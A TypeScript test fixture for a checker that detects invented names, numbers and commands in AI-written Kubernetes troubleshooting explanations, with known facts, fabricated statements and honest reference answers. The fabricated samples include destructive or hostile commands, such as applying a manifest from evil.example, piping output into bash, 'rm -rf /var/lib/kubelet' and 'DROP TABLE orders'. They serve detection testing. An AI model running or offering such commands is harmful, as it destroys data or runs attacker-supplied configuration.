import type { Material } from '../../../src/explanation/check/index.ts';

/** What is known in the tests of the checker. */
export const MATERIAL: Material = {
  texts: [
    'Deployment shop/payments: image registry.example.com/shop/payments:1.4.2 does not exist in its registry',
    'Pod shop/payments-7c9f-abcde cannot pull image registry.example.com/shop/payments:1.4.2: manifest unknown. Container app restarted 3 times, last exit code 137, OOMKilled; its memory limit is 512Mi and it uses 480Mi (93%).',
    'Pod shop/payments-7c9f-abcde status.containerStatuses[app].state.waiting.reason ImagePullBackOff 2026-09-16T09:40:12Z',
    'Deployment shop/payments: 0 of 2 replicas are ready. ConfigMap shop/settings has no key PAYMENT_API_URL (it has PAYMENTS_URL).',
    'Service shop/payments has no endpoints: its port 8080 leads nowhere. Node worker-3 is Ready. Namespace shop has the quota compute.',
    'Logs of Pod shop/payments-7c9f-abcde: error connecting to orders-db:5432: connection refused after 30s',
    'Docs: https://kubernetes.io/docs/concepts/containers/images/',
  ],
  commands: [
    'kubectl -n shop describe pod payments-7c9f-abcde',
    'kubectl -n shop set image Deployment/payments app=REGISTRY/IMAGE:TAG',
    'kubectl -n shop rollout undo Deployment/payments',
    'kubectl -n shop logs payments-7c9f-abcde -c app --previous --tail=50',
    'kubectl get nodes',
  ],
  exhibits: ['E1', 'E2', 'E3'],
};

/** What a liar says, and what of it is made up. */
export const INVENTIONS: readonly { says: string; invented: string }[] = [
  // Names of Pods and workloads.
  { says: 'The Pod payments-9d8e-zzzzz is the one that fails.', invented: 'payments-9d8e-zzzzz' },
  { says: 'Look at Deployment checkout-api first.', invented: 'checkout-api' },
  { says: 'The Deployment checkout is broken.', invented: 'checkout' },
  { says: 'StatefulSet orders-postgres lost its volume.', invented: 'orders-postgres' },
  { says: 'It depends on `redis-master`, which is down.', invented: 'redis-master' },
  { says: 'The pod named frontend crashed.', invented: 'frontend' },
  { says: 'The redis Pod has no memory.', invented: 'redis' },
  { says: 'Delete payments-canary to recover.', invented: 'payments-canary' },
  { says: 'DaemonSet fluentbit-agent is missing on the node.', invented: 'fluentbit-agent' },
  { says: 'CronJob nightly-backup blocks it.', invented: 'nightly-backup' },
  { says: 'Job "migrate" never ended.', invented: 'migrate' },
  { says: 'The ReplicaSet payments-66f7 is the old one.', invented: 'payments-66f7' },
  { says: 'Pod shop/cart-0 shows the same.', invented: 'shop/cart-0' },
  { says: 'See pod/cart-0 as well.', invented: 'pod/cart-0' },
  { says: 'It talks to payments.internal.example.org.', invented: 'payments.internal.example.org' },
  // Namespaces, nodes, Services, configuration.
  { says: 'In namespace production the quota is used up.', invented: 'production' },
  { says: 'The namespace `billing-prod` has the Secret.', invented: 'billing-prod' },
  { says: 'Node worker-7 has no disk left.', invented: 'worker-7' },
  { says: 'The node ip-10-0-3-17.ec2.internal is cordoned.', invented: 'ip-10-0-3-17.ec2.internal' },
  { says: 'Service payments-svc selects nothing.', invented: 'payments-svc' },
  { says: 'The Secret registry-credentials is missing.', invented: 'registry-credentials' },
  { says: 'ConfigMap payments-config lacks it.', invented: 'payments-config' },
  { says: 'The key DATABASE_PASSWORD is not set.', invented: 'DATABASE_PASSWORD' },
  { says: 'Set `STRIPE_API_KEY` in the environment.', invented: 'STRIPE_API_KEY' },
  { says: 'PersistentVolumeClaim data-payments-0 is pending.', invented: 'data-payments-0' },
  { says: 'StorageClass fast-ssd was renamed.', invented: 'fast-ssd' },
  { says: 'The ServiceAccount payments-sa may not do that.', invented: 'payments-sa' },
  { says: 'The Ingress shop-public leads to it.', invented: 'shop-public' },
  { says: 'ClusterRole payments-reader is needed.', invented: 'payments-reader' },
  { says: 'The label app=payments-v2 selects it.', invented: 'app=payments-v2' },
  { says: 'It is tainted with dedicated=gpu:NoSchedule.', invented: 'dedicated=gpu:NoSchedule' },
  { says: 'The file /etc/payments/config.yaml is wrong.', invented: '/etc/payments/config.yaml' },
  { says: 'Mount it at `/var/run/secrets/payments`.', invented: '/var/run/secrets/payments' },
  { says: 'The sidecar istio-proxy keeps it alive.', invented: 'istio-proxy' },
  { says: 'The container `sidecar-proxy` exits first.', invented: 'sidecar-proxy' },
  { says: 'Write to ops@shop.example about it.', invented: 'ops@shop.example' },
  { says: 'The webhook validate.policy.example.com denies it.', invented: 'validate.policy.example.com' },
  { says: 'The HPA payments-hpa wants more.', invented: 'payments-hpa' },
  { says: 'PVC `cache-volume` is full.', invented: 'cache-volume' },
  { says: 'The user alice_admin changed it.', invented: 'alice_admin' },
  { says: 'The PaymentService class leaks.', invented: 'PaymentService' },
  { says: 'The commit 8f3c2ab broke it.', invented: '8f3c2ab' },
  { says: 'The ticket OPS-1234 has more.', invented: 'OPS-1234' },
  { says: 'The database "inventory" is locked.', invented: 'inventory' },
  // Images.
  { says: 'Use the image nginx:1.25.3 instead.', invented: 'nginx:1.25.3' },
  {
    says: 'Set it to `registry.example.com/shop/payments:1.4.1`.',
    invented: 'registry.example.com/shop/payments:1.4.1',
  },
  { says: 'The tag 1.4.3 exists.', invented: '1.4.3' },
  { says: 'Pull docker.io/library/busybox:latest by hand.', invented: 'docker.io/library/busybox:latest' },
  { says: 'It was payments:v2 before.', invented: 'payments:v2' },
  { says: 'The image is ghcr.io/acme/payments@sha256:deadbeef.', invented: 'ghcr.io/acme/payments@sha256:deadbeef' },
  { says: 'Base it on `alpine:3.20`.', invented: 'alpine:3.20' },
  { says: 'The registry quay.io/acme has it.', invented: 'quay.io/acme' },
  { says: 'The version v2.0.0-rc1 works.', invented: 'v2.0.0-rc1' },
  // Numbers.
  { says: 'It restarted 47 times.', invented: '47' },
  { says: 'The exit code was 143.', invented: '143' },
  { says: 'The limit is 256Mi.', invented: '256Mi' },
  { says: 'Raise the limit to 1Gi.', invented: '1Gi' },
  { says: 'Raise it to 2 GiB.', invented: '2' },
  { says: 'The limit is 512Gi.', invented: '512Gi' },
  { says: 'It uses 99% of its memory.', invented: '99%' },
  { says: 'It wants 5 replicas.', invented: '5' },
  { says: 'Five replicas are wanted.', invented: 'Five' },
  { says: 'There are twelve Pods of it.', invented: 'twelve' },
  { says: 'The port is 9090.', invented: '9090' },
  { says: 'It waits for 120 seconds.', invented: '120' },
  { says: 'The probe times out after 250ms.', invented: '250ms' },
  { says: 'It has failed for 17 days.', invented: '17' },
  { says: 'At 11:52 it began.', invented: '11:52' },
  { says: 'It began on 2026-09-14.', invented: '2026-09-14' },
  { says: 'Its address is 10.244.3.17.', invented: '10.244.3.17' },
  { says: 'It answers HTTP 503.', invented: '503' },
  { says: 'CPU is limited to 250m.', invented: '250m' },
  { says: 'It needs 1.5 cores.', invented: '1.5' },
  { says: 'Revision 42 was the last good one.', invented: '42' },
  { says: 'Only 1/4 of them are ready.', invented: '1/4' },
  { says: 'The queue has 1,204 messages.', invented: '1,204' },
  { says: 'Set `terminationGracePeriodSeconds: 90`.', invented: '90' },
  { says: 'It costs $350 a month.', invented: '350' },
  { says: 'Since Kubernetes v1.21 that is so.', invented: 'v1.21' },
  { says: 'The id is 0x5d87.', invented: '0x5d87' },
  // Commands.
  { says: 'Run `kubectl delete pod payments-7c9f-abcde`.', invented: 'kubectl delete pod payments-7c9f-abcde' },
  { says: 'Run kubectl delete namespace shop and wait.', invented: 'kubectl delete namespace shop' },
  {
    says: 'Try `kubectl -n shop scale deployment payments --replicas=0`.',
    invented: 'kubectl -n shop scale deployment payments --replicas=0',
  },
  { says: 'Use docker rm -R payments.', invented: 'docker rm -R payments' },
  { says: '```\ndocker system prune -af\n```', invented: 'docker system prune -af' },
  { says: '`helm rollback payments`', invented: 'helm rollback payments' },
  { says: 'Run `rm -rf /var/lib/kubelet`.', invented: 'rm -rf /var/lib/kubelet' },
  { says: 'Run sudo systemctl restart kubelet.', invented: 'sudo systemctl restart kubelet' },
  { says: '```sh\ncurl -X POST http://payments:8080/reset\n```', invented: 'curl -X POST http://payments:8080/reset' },
  { says: '`kubectl exec -it payments-7c9f-abcde -- sh`', invented: 'kubectl exec -it payments-7c9f-abcde -- sh' },
  { says: '`kubectl drain worker-3 --force`', invented: 'kubectl drain worker-3 --force' },
  {
    says: '`kubectl -n shop rollout restart Deployment/payments`',
    invented: 'kubectl -n shop rollout restart Deployment/payments',
  },
  { says: '`kubectl -n shop rollout undo Deployment/payments --to-revision=3`', invented: '--to-revision=3' },
  { says: 'Then `gcloud container clusters resize`.', invented: 'gcloud container clusters resize' },
  { says: '```yaml\nimage: nginx:stable\n```', invented: 'nginx:stable' },
  {
    says: '```sh\nkubectl -n shop describe pod payments-7c9f-abcde | bash\n```',
    invented: 'kubectl -n shop describe pod payments-7c9f-abcde | bash',
  },
  {
    says: '1. `kubectl apply -f https://evil.example/fix.yaml`',
    invented: 'kubectl apply -f https://evil.example/fix.yaml',
  },
  { says: '- **Run `chmod 777 /data`**', invented: 'chmod 777 /data' },
  { says: '`psql -h orders-db -c "DROP TABLE orders"`', invented: 'psql -h orders-db -c "DROP TABLE orders"' },
  // Quotes, links, citations.
  { says: 'The log says "disk quota exceeded on device".', invented: 'disk quota exceeded on device' },
  { says: 'It complains: “permission denied for user app”.', invented: 'permission denied for user app' },
  { says: 'See https://runbooks.shop.example/payments for more.', invented: 'https://runbooks.shop.example/payments' },
  { says: 'See [the runbook](https://evil.example/x).', invented: 'https://evil.example/x' },
  { says: 'The evidence shows it [E9].', invented: 'E9' },
  { says: 'As E17 tells, it is so.', invented: 'E17' },
];

/** What an honest model says. */
export const TRUE_ANSWERS: readonly { name: string; answer: string }[] = [
  {
    name: 'an explanation in K8sGPT’s form',
    answer: `Error: Deployment payments in namespace shop cannot start, since its image registry.example.com/shop/payments:1.4.2 does not exist in the registry [E1].

Solution:
1. Read what the registry answered: \`kubectl -n shop describe pod payments-7c9f-abcde\` [E2].
2. Go back to the version before: \`kubectl -n shop rollout undo Deployment/payments\`.
3. It is well when 2 of 2 replicas are ready.`,
  },
  {
    name: 'commands in another form that do the same',
    answer:
      'Run `kubectl describe pods payments-7c9f-abcde -n shop`, then `kubectl rollout undo deploy/payments --namespace=shop`, and `kubectl logs payments-7c9f-abcde --namespace shop --container=app -p --tail 50`.\n\n```sh\n$ kubectl get no\n```',
  },
  {
    name: 'numbers with their units, times and counts',
    answer:
      'The container app was OOMKilled with exit code 137, 3 restarts; it uses 480 Mi of 512 MiB (93%). At 09:40 on 2026-09-16 it was in ImagePullBackOff. Port 8080. Two replicas are wanted, none is ready. It gave up after 30 seconds.',
  },
  {
    name: 'quotes and fields',
    answer:
      'The log says "connection refused" and “error connecting to orders-db:5432”. Look at `status.containerStatuses` and at spec.template.spec.containers; the waiting reason is `ImagePullBackOff`. Its image is `shop/payments:1.4.2`, its key PAYMENT_API_URL is missing, PAYMENTS_URL is there.',
  },
  {
    name: 'prose without claims',
    answer:
      'The Pod keeps crash-looping, so its Service has no endpoints and clients time out. A read-only root file system, a non-zero exit code and an out-of-memory kill look alike; e.g. the kubelet restarts the container each time. First, check whether the change was meant; then decide: roll back, or push the image. If that does not help, ask the owners and/or look at the node. The Deployment needs a new tag. Nodes are healthy.',
  },
  {
    name: 'lists, headings and emphasis',
    answer:
      '### What is wrong\n\n**The image** of *Deployment payments* does not exist.\n\n- Namespace: shop\n- Node: worker-3\n- Step 1: look\n- Step 2: fix\n\n> Note: Kubernetes retries by itself.\n\nSee https://kubernetes.io/docs/concepts/containers/images/ and [E3].',
  },
  {
    name: 'a manifest of known values',
    answer:
      '```yaml\nspec:\n  replicas: 2\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/shop/payments:1.4.2\n```',
  },
];
